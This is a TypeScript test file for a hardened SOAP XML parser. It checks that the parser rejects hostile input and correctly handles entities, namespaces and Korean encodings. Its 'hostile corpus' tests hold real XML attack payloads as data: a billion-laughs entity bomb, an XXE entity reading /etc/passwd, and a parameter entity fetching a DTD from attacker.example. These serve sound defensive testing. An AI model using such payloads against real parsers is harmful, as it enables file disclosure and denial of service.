import fc from 'fast-check';
import iconv from 'iconv-lite';
import { describe, expect, it } from 'vitest';
import { XmlEncodingError, XmlMalformedError, XmlSecurityError } from '../../../src-main/soap/errors';
import type { XmlSecurityKind, SoapError } from '../../../src-main/soap/errors';
import { bytesToText, decodeXmlText, parseXml, XSI_NS } from '../../../src-main/soap/xml-read';
import type { XmlElement } from '../../../src-main/soap/xml-read';

const utf8 = (s: string) => new TextEncoder().encode(s);

function thrown(fn: () => unknown): unknown {
  try {
    fn();
  } catch (err) {
    return err;
  }
  throw new Error('expected an error');
}

function expectSecurity(fn: () => unknown, kind: XmlSecurityKind): void {
  const err = thrown(fn);
  expect(err).toBeInstanceOf(XmlSecurityError);
  expect((err as XmlSecurityError).kind).toBe(kind);
  expect((err as XmlSecurityError).deskCode).toBe('BAD_RESPONSE');
}

function expectMalformed(fn: () => unknown, detail?: RegExp): void {
  const err = thrown(fn);
  expect(err).toBeInstanceOf(XmlMalformedError);
  expect((err as SoapError).deskCode).toBe('BAD_RESPONSE');
  if (detail) expect((err as SoapError).detail).toMatch(detail);
}

describe('parseXml: hostile corpus', () => {
  it('rejects a DOCTYPE before parsing, in any case and after comments and PIs', () => {
    expectSecurity(() => parseXml('<!DOCTYPE r><r/>'), 'doctype');
    expectSecurity(
      () => parseXml('<?xml version="1.0"?>\n<!-- hi --><?pi x?>\n<!doctype r SYSTEM "r.dtd"><r/>'),
      'doctype',
    );
    expectSecurity(() => parseXml('<r><!DOCTYPE r></r>'), 'doctype');
  });

  it('rejects billion laughs without expanding anything', () => {
    const lol = [
      '<?xml version="1.0"?>',
      '<!DOCTYPE lolz [',
      ' <!ENTITY lol "lol">',
      ...Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`),
      ']>',
      '<lolz>&lol9;</lolz>',
    ].join('\n');
    expectSecurity(() => parseXml(lol), 'entity-declaration');
  });

  it('rejects an external entity', () => {
    const xxe = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>';
    expectSecurity(() => parseXml(xxe), 'external-entity');
  });

  it('rejects parameter entities', () => {
    const pe = '<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]><r/>';
    expectSecurity(() => parseXml(pe), 'parameter-entity');
  });

  it('rejects an entity declaration outside a DOCTYPE', () => {
    expectSecurity(() => parseXml('<r><!ENTITY x "y"></r>'), 'entity-declaration');
  });

  it('rejects 10,000-deep nesting at the depth cap', () => {
    const deep = '<a>'.repeat(10_000) + '</a>'.repeat(10_000);
    expectSecurity(() => parseXml(deep), 'depth');
    const ok = '<a>'.repeat(256) + '</a>'.repeat(256);
    expect(parseXml(ok).name).toBe('a');
    expectSecurity(() => parseXml('<a>'.repeat(5) + '<b/>' + '</a>'.repeat(5), { maxDepth: 5 }), 'depth');
  });

  it('rejects a 100 MB body before decoding it', () => {
    const big = new Uint8Array(100 * 1024 * 1024).fill(0x20);
    big.set(utf8('<r>'), 0);
    expectSecurity(() => parseXml(big), 'size');
    expectSecurity(() => parseXml(`<r>${'x'.repeat(2000)}</r>`, { maxBytes: 1000 }), 'size');
    // Three UTF-8 bytes per Hangul syllable: 400 characters are 1200 bytes.
    expectSecurity(() => parseXml(`<r>${'한'.repeat(400)}</r>`, { maxBytes: 1000 }), 'size');
    expect(parseXml(`<r>${'한'.repeat(300)}</r>`, { maxBytes: 1000 }).text).toHaveLength(300);
  });

  it('rejects a truncated body', () => {
    const full =
      '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body><X a="1">text</X></s:Body></s:Envelope>';
    for (let cut = 1; cut < full.length; cut++) {
      expectMalformed(() => parseXml(full.slice(0, cut)));
    }
    expectMalformed(() => parseXml('<r a="1'), /truncated/);
  });

  it('rejects malformed and mismatched tags', () => {
    expectMalformed(() => parseXml('<a><b></a></b>'), /does not match/);
    expectMalformed(() => parseXml('<a></A>'), /does not match/);
    expectMalformed(() => parseXml('<a><b</a>'));
    expectMalformed(() => parseXml('< a/>'));
    expectMalformed(() => parseXml('<a b="1"c="2"/>'), /white space/);
    expectMalformed(() => parseXml('<a b=1/>'), /not quoted/);
    expectMalformed(() => parseXml('<a b/>'), /no value/);
    expectMalformed(() => parseXml('<a b="1" b="2"/>'), /Duplicate attribute/);
    expectMalformed(() => parseXml('<a b="<"/>'), /"<"/);
    expectMalformed(() => parseXml('<a></a></a>'), /without a start tag|after the root/);
    expectMalformed(() => parseXml('<1a/>'));
    expectMalformed(() => parseXml('<a>]]></a>'), /\]\]>/);
    expectMalformed(() => parseXml('<a><!-- x -- y --></a>'), /--/);
    expectMalformed(() => parseXml('<![CDATA[x]]><a/>'), /CDATA/);
    expectMalformed(() => parseXml('<a/><?xml version="1.0"?>'), /declaration/);
    expectMalformed(() => parseXml('\n<?xml version="1.0"?><a/>'), /declaration/);
    expectMalformed(() => parseXml('<?xml encoding="utf-8"?><a/>'), /declaration/);
    expectMalformed(() => parseXml(''), /No root/);
  });

  it('rejects an unknown entity and invalid character references', () => {
    expectMalformed(() => parseXml('<a>&foo;</a>'), /Unknown entity &foo;/);
    expectMalformed(() => parseXml('<a x="&nbsp;"/>'), /Unknown entity/);
    expectMalformed(() => parseXml('<a>&#0;</a>'), /not an XML character/);
    expectMalformed(() => parseXml('<a>&#xD800;</a>'), /not an XML character/);
    expectMalformed(() => parseXml('<a>&#x110000;</a>'), /not an XML character/);
    expectMalformed(() => parseXml('<a>&#xFFFE;</a>'), /not an XML character/);
    expectMalformed(() => parseXml('<a>&#x1;</a>'), /not an XML character/);
    expectMalformed(() => parseXml('<a>&#12a;</a>'), /Invalid character reference/);
    expectMalformed(() => parseXml('<a>& b</a>'));
    expectMalformed(() => parseXml('<a>&amp</a>'), /Unterminated/);
  });

  it('rejects characters XML cannot carry', () => {
    expectMalformed(() => parseXml('<a>\u0000</a>'), /U\+0000/);
    expectMalformed(() => parseXml('<a>\u000B</a>'), /U\+000B/);
    expectMalformed(() => parseXml('<a>\uD800</a>'), /surrogate/);
  });

  it('rejects two root elements and text around the root', () => {
    expectMalformed(() => parseXml('<a/><b/>'), /More than one root/);
    expectMalformed(() => parseXml('<a></a>\n<a></a>'), /More than one root/);
    expectMalformed(() => parseXml('<a/>trailing'), /Text after the root/);
    expectMalformed(() => parseXml('lead<a/>'), /Text before the root/);
    expect(parseXml('\n <a/>\n <!-- ok --> \n').name).toBe('a');
  });

  it('rejects namespace errors', () => {
    expectMalformed(() => parseXml('<p:a/>'), /not declared/);
    expectMalformed(() => parseXml('<a p:x="1"/>'), /not declared/);
    expectMalformed(() => parseXml('<a xmlns:p=""/>'), /undeclared/);
    expectMalformed(() => parseXml('<a xmlns:xmlns="u"/>'));
    expectMalformed(() => parseXml('<a xmlns:p="u" xmlns:q="u" p:x="1" q:x="2"/>'), /twice/);
  });
});

describe('parseXml: reading', () => {
  it('decodes entities in one XML-correct pass', () => {
    const el = parseXml(
      '<a x="&amp;lt; &#60;&#x3C;">&amp;lt;|&#xD;|&#x1F600;|&#128512;|&quot;&apos;&gt;</a>',
    );
    expect(el.attrs['x']).toBe('&lt; <<');
    expect(el.text).toBe('&lt;|\r|😀|😀|"\'>');
    // A proper surrogate pair, not two lone halves.
    expect([...'😀']).toHaveLength(1);
    expect(el.text.split('|')[2]).toBe('\u{1F600}');
    expect(el.text.replace(/[\uD800-\uDBFF][\uDC00-\uDFFF]/g, '')).not.toMatch(/[\uD800-\uDFFF]/);
  });

  it('preserves whitespace in text exactly, and normalizes only literal whitespace in attributes', () => {
    const el = parseXml('<a t="x\ty\nz" r="x&#9;y&#xA;z&#xD;">\t line1\r\n  line2\r&#xD;&#xA; </a>');
    // CRLF and lone CR are line ends, which XML reads as LF; their character references survive.
    expect(el.text).toBe('\t line1\n  line2\n\r\n ');
    expect(el.attrs['t']).toBe('x y z');
    expect(el.attrs['r']).toBe('x\ty\nz\r');
  });

  it('keeps whitespace-only text between children', () => {
    const el = parseXml('<a>\n  <b> </b>\n  <c/>\n</a>');
    expect(el.text).toBe('\n  \n  \n');
    expect(el.children.map((c) => [c.name, c.text])).toEqual([
      ['b', ' '],
      ['c', ''],
    ]);
  });

  it('reads CDATA raw and appends it to the text', () => {
    const el = parseXml('<a>x<![CDATA[<b>&amp;]]]]><![CDATA[>]]>y<![CDATA[]]></a>');
    expect(el.text).toBe('x<b>&amp;]]>y');
    expect(el.children).toHaveLength(0);
  });

  it('resolves namespaces by URI with any prefix, a default namespace and nested redeclarations', () => {
    const xml = `<env:Envelope xmlns:env="urn:e" xmlns="urn:d" xmlns:xsi="${XSI_NS}">
      <env:Body><Op a="1" env:b="2" xsi:nil="true">
        <Child xmlns="urn:other"><x:G xmlns:x="urn:x"/><H/></Child>
        <env:Inner xmlns:env="urn:rebound"><env:Deep/></env:Inner>
        <Plain xmlns=""><Q/></Plain>
        <After/>
      </Op></env:Body></env:Envelope>`;
    const root = parseXml(xml);
    expect([root.ns, root.name]).toEqual(['urn:e', 'Envelope']);
    const op = root.children[0]?.children[0] as XmlElement;
    expect([op.ns, op.name]).toEqual(['urn:d', 'Op']);
    expect(op.attrs).toEqual({ a: '1' });
    expect(op.qattrs).toEqual({ '{urn:e}b': '2', [`{${XSI_NS}}nil`]: 'true' });
    const [child, inner, plain, after] = op.children as [XmlElement, XmlElement, XmlElement, XmlElement];
    expect(child.ns).toBe('urn:other');
    expect(child.children.map((c) => `{${c.ns}}${c.name}`)).toEqual(['{urn:x}G', '{urn:other}H']);
    expect([inner.ns, inner.children[0]?.ns]).toEqual(['urn:rebound', 'urn:rebound']);
    expect([plain.ns, plain.children[0]?.ns]).toEqual(['', '']);
    expect(after.ns).toBe('urn:d');
  });

  it('excludes xmlns declarations from attrs and keys xml:lang by its URI', () => {
    const el = parseXml('<a xmlns="u" xmlns:p="v" xml:lang="ko" p:q="1" r="2"/>');
    expect(el.attrs).toEqual({ r: '2' });
    expect(el.qattrs).toEqual({ '{http://www.w3.org/XML/1998/namespace}lang': 'ko', '{v}q': '1' });
  });

  it('gives a one-element list as one child', () => {
    const one = parseXml('<List><Item k="1"/></List>');
    expect(one.children).toHaveLength(1);
    expect(one.children[0]?.attrs).toEqual({ k: '1' });
  });

  it('keeps names that are also JavaScript property names', () => {
    const el = parseXml('<toString __proto__="p" constructor="c" valueOf="v"><hasOwnProperty/></toString>');
    expect(el.name).toBe('toString');
    expect(Object.getPrototypeOf(el.attrs)).toBe(Object.prototype);
    expect(Object.keys(el.attrs).sort()).toEqual(['__proto__', 'constructor', 'valueOf']);
    expect(Object.getOwnPropertyDescriptor(el.attrs, '__proto__')?.value).toBe('p');
    expect(el.children[0]?.name).toBe('hasOwnProperty');
  });

  it('reads Korean text and surrogate pairs in names and values', () => {
    const el = parseXml('<상품 이름="무선 이어폰">배송 문의 𝒳</상품>');
    expect(el.name).toBe('상품');
    expect(el.attrs['이름']).toBe('무선 이어폰');
    expect(el.text).toBe('배송 문의 𝒳');
  });

  it('accepts a BOM in a string and an XML declaration', () => {
    expect(parseXml('\uFEFF<?xml version="1.0" encoding="utf-8" standalone="yes"?><a/>').name).toBe('a');
  });
});

describe('decodeXmlText', () => {
  it('decodes exactly one level', () => {
    expect(decodeXmlText('&amp;amp;')).toBe('&amp;');
    expect(decodeXmlText('a&lt;b&gt;c')).toBe('a<b>c');
    expect(decodeXmlText('&#x41;&#65;&#x000041;')).toBe('AAA');
    expect(decodeXmlText('no refs')).toBe('no refs');
  });
  it('throws on anything that is not a complete known reference', () => {
    for (const bad of ['&', '&;', '&foo;', '&#;', '&#x;', '&#xZ;', '&#0;', '&#xDFFF;', '&AMP;', '&amp&lt;']) {
      expect(() => decodeXmlText(bad), bad).toThrow(XmlMalformedError);
    }
  });

  const xmlChar = fc.oneof(
    fc.constantFrom(0x9, 0xa, 0xd),
    fc.integer({ min: 0x20, max: 0xd7ff }),
    fc.integer({ min: 0xe000, max: 0xfffd }),
    fc.integer({ min: 0x10000, max: 0x10ffff }),
  );
  const xmlString = fc.array(xmlChar, { maxLength: 40 }).map((cps) => String.fromCodePoint(...cps));
  const style = fc.constantFrom('named', 'dec', 'hex');

  // The smallest escape that is correct for text and attribute values alike.
  function escape(s: string, how: 'named' | 'dec' | 'hex'): string {
    let out = '';
    for (const ch of s) {
      const cp = ch.codePointAt(0) as number;
      const special = '&<>"\'\t\n\r'.includes(ch);
      if (!special && how === 'named') out += ch;
      else if (how === 'named')
        out += { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&apos;' }[ch] ?? `&#${cp};`;
      else if (how === 'dec') out += `&#${cp};`;
      else out += `&#x${cp.toString(16)};`;
    }
    return out;
  }

  it('inverts escaping for any string of XML characters', () => {
    fc.assert(
      fc.property(xmlString, style, (s, how) => {
        expect(decodeXmlText(escape(s, how))).toBe(s);
      }),
      { numRuns: 500 },
    );
  });

  it('round-trips any string of XML characters through a whole document, text and attribute', () => {
    fc.assert(
      fc.property(xmlString, style, (s, how) => {
        const e = escape(s, how);
        const el = parseXml(`<r v="${e}">${e}</r>`);
        expect(el.text).toBe(s);
        expect(el.attrs['v']).toBe(s);
      }),
      { numRuns: 300 },
    );
  });
});

describe('bytesToText', () => {
  const doc = '<?xml version="1.0" encoding="ENC"?><r>한글 텍스트</r>';

  it('honours BOMs', () => {
    expect(bytesToText(new Uint8Array([0xef, 0xbb, 0xbf, ...utf8('<r>가</r>')]))).toBe('<r>가</r>');
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<r>가</r>', 'utf16le')]);
    expect(bytesToText(le)).toBe('<r>가</r>');
    const be = Buffer.from('<r>가</r>', 'utf16le').swap16();
    expect(bytesToText(Buffer.concat([Buffer.from([0xfe, 0xff]), be]))).toBe('<r>가</r>');
    const decl = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(doc.replace('ENC', 'utf-16'), 'utf16le'),
    ]);
    expect(parseXml(decl).text).toBe('한글 텍스트');
  });

  it('reads EUC-KR from the Content-Type charset or the declaration', () => {
    const bytes = iconv.encode(doc.replace('ENC', 'euc-kr'), 'cp949');
    expect(parseXml(bytes, { contentType: 'text/xml; charset=EUC-KR' }).text).toBe('한글 텍스트');
    expect(parseXml(bytes).text).toBe('한글 텍스트');
    const plain = iconv.encode('<r>똠방각하</r>', 'cp949');
    expect(bytesToText(plain, 'text/xml;charset="ks_c_5601-1987"')).toBe('<r>똠방각하</r>');
  });

  it('rejects a wrong declared encoding instead of guessing', () => {
    const eucBytes = iconv.encode(doc.replace('ENC', 'utf-8'), 'cp949');
    expect(() => parseXml(eucBytes)).toThrow(XmlEncodingError);
    expect(() => parseXml(utf8('<r>한글</r>'), { contentType: 'text/xml; charset=euc-kr' })).toThrow(
      XmlEncodingError,
    );
    expect(() => bytesToText(utf8('<r>é</r>'), 'text/xml; charset=us-ascii')).toThrow(XmlEncodingError);
  });

  it('rejects contradictory and unsupported encodings', () => {
    const declEuc = utf8(doc.replace('ENC', 'euc-kr'));
    expect((thrown(() => bytesToText(declEuc, 'text/xml; charset=utf-8')) as SoapError).detail).toMatch(
      /XML declaration says euc-kr/,
    );
    expect(() => bytesToText(new Uint8Array([0xef, 0xbb, 0xbf, ...declEuc]))).toThrow(XmlEncodingError);
    const detail = (fn: () => unknown) => (thrown(fn) as SoapError).detail;
    expect(detail(() => bytesToText(utf8('<r/>'), 'text/xml; charset=x-klingon'))).toMatch(
      /Unsupported charset/,
    );
    expect(detail(() => bytesToText(utf8(doc.replace('ENC', 'shift_jis'))))).toMatch(/Unsupported encoding/);
    expect(() => bytesToText(utf8(doc.replace('ENC', 'utf-16')))).toThrow(XmlEncodingError);
    expect(detail(() => bytesToText(new Uint8Array([0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0])))).toMatch(/UTF-32/);
    expect(() =>
      bytesToText(new Uint8Array([0x3c, 0x72, 0x3e, 0xc7, 0x21]), 'text/xml; charset=euc-kr'),
    ).toThrow(XmlEncodingError);
  });

  it('tolerates a UTF-16 declaration in a UTF-8 body the charset vouches for', () => {
    const bytes = utf8(doc.replace('ENC', 'utf-16'));
    expect(parseXml(bytes, { contentType: 'text/xml; charset=utf-8' }).text).toBe('한글 텍스트');
  });

  it('defaults to UTF-8 and is fatal on invalid sequences', () => {
    expect(bytesToText(utf8('<r>가</r>'))).toBe('<r>가</r>');
    expect(() => bytesToText(new Uint8Array([0x3c, 0x72, 0x3e, 0xff, 0x3c, 0x2f, 0x72, 0x3e]))).toThrow(
      XmlEncodingError,
    );
  });
});
